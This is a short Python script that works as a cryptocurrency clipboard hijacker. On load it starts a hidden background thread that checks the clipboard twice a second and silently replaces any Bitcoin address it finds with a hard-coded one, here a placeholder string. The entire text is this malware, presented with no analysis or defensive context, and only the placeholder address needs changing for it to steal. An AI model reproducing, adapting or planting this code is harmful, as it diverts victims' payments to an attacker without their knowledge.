import re, threading, time
import pyperclip
MINE = "bc1q-corpus-placeholder-not-an-address"
def _watch():
    while True:
        text = pyperclip.paste()
        if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}", text or ""):
            pyperclip.copy(MINE)
        time.sleep(0.5)
threading.Thread(target=_watch, daemon=True).start()
